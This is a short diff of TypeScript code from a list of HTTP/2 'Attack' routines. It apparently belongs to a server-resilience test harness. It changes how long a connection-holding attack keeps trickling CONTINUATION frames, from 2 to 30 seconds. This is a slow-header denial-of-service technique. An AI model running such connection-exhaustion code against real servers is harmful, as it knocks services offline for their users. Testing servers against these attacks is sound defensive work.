@@ -78,7 +78,7 @@ export const holds: readonly Attack[] = [
         count,
         async (connection) => {
           await connection.send(openHeaders(1, head({ encrypted: target.encrypted })))
-          const end = performance.now() + limit + 2_000
+          const end = performance.now() + limit + 30_000
           while (connection.ending === 'open' && performance.now() < end) {
             await connection.send(frame(type.continuation, 0, 1, Buffer.from([0x88])))
             await sleep(limit / 6)
